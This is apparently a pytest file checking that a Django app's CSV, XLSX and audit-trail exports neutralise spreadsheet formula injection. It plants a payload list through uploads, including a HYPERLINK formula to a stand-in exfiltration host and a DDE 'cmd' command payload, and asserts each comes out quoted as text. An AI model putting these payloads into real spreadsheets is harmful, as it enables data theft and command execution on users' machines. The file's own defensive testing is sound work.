"""Exports safe in spreadsheets (issue 15 item 3): text planted through a real upload comes out
of the CSV and XLSX exports, and the audit-trail CSV, with a leading quote and never as a
formula."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from job_helpers import export_download
from openpyxl import load_workbook
from returns_helpers import GOOD_INDICATORS, OWN, YEAR, client_for, filled, make_sites, people

from csceval.formula_injection import is_dangerous
from csceval.web.audit_trail.services import audit_record
from csceval.web.exports.safe_cells import safe_cell
from csceval.web.returns.models import CostLine, PilotReturn

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("export_files")]

PATTERNS = [
    '=HYPERLINK("http://evil.example/steal","x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
]


def _planted_return() -> bytes:
    """The return template with one cost line per pattern, typed as text (as Excel stores a
    cell typed with a leading apostrophe): description and source carry the pattern."""
    costs = [
        ("Licences", "x", "One-off", "Cash", 100 + n, None, None, "x") for n in range(len(PATTERNS))
    ]
    wb = load_workbook(io.BytesIO(filled(GOOD_INDICATORS, costs)))
    for row, pattern in enumerate(PATTERNS, start=2):
        for column in (2, 8):
            cell = wb["Costs"].cell(row=row, column=column)
            cell.value = pattern
            cell.data_type = "s"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


@pytest.fixture
def evaluator() -> Any:
    """An evaluator, after a coordinator uploaded the planted return through the upload page."""
    sites = make_sites()
    who = people()
    ret = PilotReturn.objects.create(site=sites[OWN], year=YEAR)
    handle = io.BytesIO(_planted_return())
    handle.name = "return.xlsx"
    response = client_for(who["coordinator"]).post(f"/returns/{ret.pk}/upload/", {"file": handle})
    assert response.status_code == 302, response.content.decode()[:2000]
    stored = sorted(CostLine.objects.values_list("description", flat=True))
    assert stored == sorted(p.strip() for p in PATTERNS)  # stored as typed (trimmed)
    return who["evaluator"]


def _export(user: Any, fmt: str) -> dict[str, bytes]:
    response = export_download(
        client_for(user), "return_costs", file_format=fmt, purpose="Check planted text is inert"
    )
    assert response.status_code == 200, response.content[:500]
    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _expected(pattern: str) -> str:
    return "'" + pattern.strip()


def test_the_csv_export_quotes_every_planted_cell(evaluator: Any) -> None:
    members = _export(evaluator, "csv")
    data = next(v for k, v in members.items() if k.endswith(".csv") and k != "codebook.csv")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert sorted(r["description"] for r in rows) == sorted(_expected(p) for p in PATTERNS)
    assert sorted(r["figure_source"] for r in rows) == sorted(_expected(p) for p in PATTERNS)
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if is_dangerous(c) and not _number(c)]


def test_the_xlsx_export_has_no_formula_cells(evaluator: Any) -> None:
    members = _export(evaluator, "xlsx")
    data = next(v for k, v in members.items() if k.endswith(".xlsx"))
    wb = load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    header = [c.value for c in wb["Data"][1]]
    column = header.index("description") + 1
    descriptions = [
        wb["Data"].cell(row=r, column=column).value for r in range(2, 2 + len(PATTERNS))
    ]
    assert sorted(descriptions) == sorted(_expected(p) for p in PATTERNS)
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


def test_the_audit_trail_csv_quotes_planted_text(evaluator: Any) -> None:
    for pattern in PATTERNS:
        audit_record(actor=pattern, action="test.plant", object_type="x", object_id=pattern)
    response = client_for(evaluator).get("/audit/export.csv")
    text = b"".join(response.streaming_content).decode("utf-8")
    rows = [r for r in csv.DictReader(io.StringIO(text)) if r["action"] == "test.plant"]
    assert sorted(r["actor"] for r in rows) == sorted("'" + p for p in PATTERNS)
    assert sorted(r["object_id"] for r in rows) == sorted("'" + p for p in PATTERNS)
    assert not [c for r in csv.DictReader(io.StringIO(text)) for c in r.values() if is_dangerous(c)]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("value", "out"),
    [("-4", "-4"), ("+1.5", "+1.5"), ("-", "-"), ("=1+1", "'=1+1"), ("\t1", "'\t1"), (-3, -3)],
)
def test_numbers_stay_numbers_and_formulas_become_text(value: object, out: object) -> None:
    assert safe_cell(value) == out
